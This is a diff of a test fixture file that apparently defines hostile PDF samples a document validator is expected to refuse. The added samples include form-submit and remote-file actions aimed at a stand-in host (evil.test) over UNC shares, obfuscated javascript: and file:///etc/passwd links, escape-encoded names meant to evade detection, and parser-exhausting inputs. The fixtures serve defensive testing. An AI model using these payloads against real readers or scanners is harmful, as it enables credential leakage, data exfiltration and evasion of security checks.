@@ -1,6 +1,7 @@
 import { deflateSync } from "node:zlib";
 import { type HostileFile, type Outcome, eicar, refused } from "./hostile-file.ts";
 import { aJpeg, packed } from "./picture-parts.ts";
+import { nastyDocuments } from "./nasty-documents.ts";
 import { aPdf, aStream, anObject, packedObjects } from "./pdf-parts.ts";
 
 type Contents = Record<string, () => Buffer | Promise<Buffer>>;
@@ -26,6 +27,9 @@ function rowsOfDifferences(bytes: Buffer): Buffer {
   }
   return Buffer.from(out);
 }
+
+const nasty = (wanted: string): Buffer =>
+  nastyDocuments.find(({ title }) => title === wanted)?.content(490_000) ?? Buffer.alloc(0);
 
 export const hostileDocuments: readonly HostileFile[] = [
   ...group(refused("file_empty"), { "an empty document": () => Buffer.alloc(0) }),
@@ -64,6 +68,41 @@ export const hostileDocuments: readonly HostileFile[] = [
     "a form of the kind that is a program": () => aPdf("/AcroForm << /XFA 9 0 R >>"),
     "a film with controls": () => aPdf("", { more: [anObject(9, "<< /Subtype /RichMedia >>")] }),
     "a film that runs a script": () => aPdf("/OpenAction << /S /Rendition /JS (app.alert(1)) >>"),
+    "a form that sends what is typed into it": () =>
+      aPdf("", { more: [anObject(9, "<< /S /SubmitForm /F << /FS /URL /F (https://evil.test) >> >>")] }),
+    "such a form whose name is written in numbers": () =>
+      aPdf("", { more: [anObject(9, "<< /S /Submit#46orm /F (https://evil.test) >>")] }),
+    "such a form among packed objects": () =>
+      aPdf("", { more: [packedObjects(["<< /S /Submit#46#6frm /F (https://evil.test) >>"])] }),
+    "a form that reads another file": () =>
+      aPdf("", { more: [anObject(9, "<< /S /ImportData /F (a.fdf) >>")] }),
+    "a step into another file, on a server that hears who opens this one": () =>
+      aPdf("/OpenAction << /S /GoToR /F (\\\\\\\\evil.test\\\\share\\\\a.pdf) /D [0 /Fit] >>"),
+    "such a step whose name is written in numbers": () =>
+      aPdf("/OpenAction << /S /#47oTo#52 /F (//evil.test/share/a.pdf) >>"),
+    "such a step among packed objects": () =>
+      aPdf("/OpenAction 20 0 R", { more: [packedObjects(["<< /S /GoTo#52 /F (a.pdf) >>"])] }),
+    "a step into a file inside": () => aPdf("/OpenAction << /S /GoToE /T << /R /C /N (a.pdf) >> >>"),
+    "such a step among packed objects, into a file inside": () =>
+      aPdf("", { more: [packedObjects(["<< /S /GoT#6fE /T << /R /C >> >>"])] }),
+    "a film that lies elsewhere": () =>
+      aPdf("", { more: [anObject(9, "<< /Subtype /Movie /Movie << >> >>")] }),
+    "a model that runs a script": () =>
+      aPdf("", { more: [anObject(9, "<< /Type /3D /OnInstantiate 10 0 R >>")] }),
+    "a part that lies on a server": () =>
+      aPdf("", { more: [anObject(9, aStream("/F (\\\\\\\\evil.test\\\\share\\\\a)", Buffer.from("x")))] }),
+    "a part on a server whose name is written in octal": () =>
+      aPdf("", { more: [anObject(9, "<< /Type /Filespec /UF (\\134\\134evil.test\\134share) >>")] }),
+    "a part on a server whose name is written in numbers": () =>
+      aPdf("", { more: [anObject(9, "<< /Type /Filespec /F <5c5c 6576696c2e74657374> >>")] }),
+    "a part on a server whose name is written in two bytes a letter": () =>
+      aPdf("", { more: [anObject(9, "<< /Type /Filespec /UF <feff005c005c006500760069006c> >>")] }),
+    "a part on a server, among packed objects": () =>
+      aPdf("", { more: [packedObjects(["<< /Type /Filespec /F (//evil.test/share) >>"])] }),
+    "a link that is a script": () =>
+      aPdf("", { more: [anObject(9, "<< /S /URI /URI (java\\163cript:alert\\(1\\)) >>")] }),
+    "a link to a file of the reader's": () =>
+      aPdf("", { more: [anObject(9, "<< /S /URI /URI (file:///etc/passwd) >>")] }),
     "a script packed with other objects": () => packedScript(),
     "a packed script whose name is written in numbers": () =>
       aPdf("", { more: [packedObjects(["<< /S /Java#53cript /JS (1) >>"])] }),
@@ -71,8 +110,6 @@ export const hostileDocuments: readonly HostileFile[] = [
       packedScript({ dictionary: "/N 2 /First 12 /Filter /FlateDecode" }),
     "packed objects that say it in numbers": () =>
       packedScript({ dictionary: "/Type /Obj#53tm /N 2 /First 12 /Filter /FlateDecode" }),
-    "packed objects behind a word that seems to end them": () =>
-      packedScript({ dictionary: "/Type /ObjStm /N 2 /First 12 /Filter /FlateDecode /X (1 0 obj)" }),
     "packed objects that are not packed": () =>
       packedScript({ dictionary: "/Type /ObjStm /N 2 /First 12", pack: (objects) => objects }),
     "a script in what only looks like data": () =>
@@ -85,6 +122,44 @@ export const hostileDocuments: readonly HostileFile[] = [
     "a lock whose name is written in numbers": () => aPdf("", { trailer: "/#45ncrypt 9 0 R" }),
   }),
   ...group(refused("document_not_checked"), {
+    "packed objects behind a word that seems to end them": () =>
+      packedScript({ dictionary: "/Type /ObjStm /N 2 /First 12 /Filter /FlateDecode /X (1 0 obj)" }),
+    "packed objects whose word for it stands where no object is": () =>
+      packedScript({
+        dictionary: "/Type /ObjStm /N 2 /First 12 /Filter /ASCIIHexDecode /X (1 0 obj)",
+        pack: (objects) => Buffer.from(objects.toString("hex")),
+      }),
+    "packed objects that say in a text how they are packed": () =>
+      packedScript({
+        dictionary: "/Type /ObjStm /N 2 /First 12 /X (/Filter /FlateDecode) /Filter /ASCIIHexDecode",
+        pack: (objects) => Buffer.from(objects.toString("hex")),
+      }),
+    "packed objects that say in a comment how they are packed": () =>
+      packedScript({
+        dictionary: "/Type /ObjStm /N 2 /First 12 %/Filter /FlateDecode\n/Filter /ASCIIHexDecode",
+        pack: (objects) => Buffer.from(objects.toString("hex")),
+      }),
+    "packed objects that do not say so, packed in another way": () =>
+      packedScript({
+        dictionary: "/N 2 /First 12 /X (1 0 obj) /Filter /ASCIIHexDecode",
+        pack: (objects) => Buffer.from(objects.toString("hex")),
+      }),
+    "packed objects behind a comment": () =>
+      aPdf("", {
+        more: [
+          Buffer.concat([
+            Buffer.from("9 0 obj % (\n<< /Type /ObjStm /N 1 /First 5 /Filter /LZWDecode >>\nstream\n"),
+            Buffer.from("\x80\x0b\x60\x50\nendstream\nendobj\n", "latin1"),
+          ]),
+        ],
+      }),
+    "packed objects that are said to be elsewhere": () =>
+      aPdf("", { more: [anObject(9, "[ /Type /ObjStm ]")] }),
+    "seventy thousand words that begin a stream": () => nasty("words that begin a stream"),
+    "fifty thousand streams of broken packed data": () => nasty("streams of broken packed data"),
+    "fifty thousand places that are written in odd ways": () => nasty("places of other files"),
+    "objects that begin inside each other, a hundred thousand times": () =>
+      aPdf("", { more: [Buffer.alloc(900_000, "1 0 obj<<")] }),
     "objects packed twice": () =>
       packedScript({
         dictionary: "/Type /ObjStm /N 2 /First 12 /Filter [/FlateDecode /FlateDecode]",
@@ -117,6 +192,19 @@ export const hostileDocuments: readonly HostileFile[] = [
         aPdf("", { more: [Buffer.from("<script>alert(document.cookie)</script>\n")] }),
       "a PDF with the virus of the scanners": () => aPdf("", { more: [anObject(9, aStream("", eicar))] }),
       "a PDF that is one page of drawings": () => aPdf("/OpenAction [3 0 R /Fit]"),
+      "a PDF with links to the web": () =>
+        aPdf("", {
+          more: [
+            packedObjects([
+              "<< /S /URI /URI (https://boli.in/a) >>",
+              "<< /S /URI /URI (mailto:a@boli.in) >>",
+            ]),
+          ],
+        }),
+      "a PDF with an outline and a form without sender": () =>
+        aPdf("/Outlines 9 0 R /AcroForm << /Fields [] /NeedAppearances true >>", {
+          more: [anObject(9, "<< /Type /Outlines /First 10 0 R /N (a) /Count 1 >>")],
+        }),
       "a PDF whose objects are packed": () =>
         aPdf("", { more: [packedObjects(["<< /Kind 1 >>", "[1 2 3]"])] }),
     },
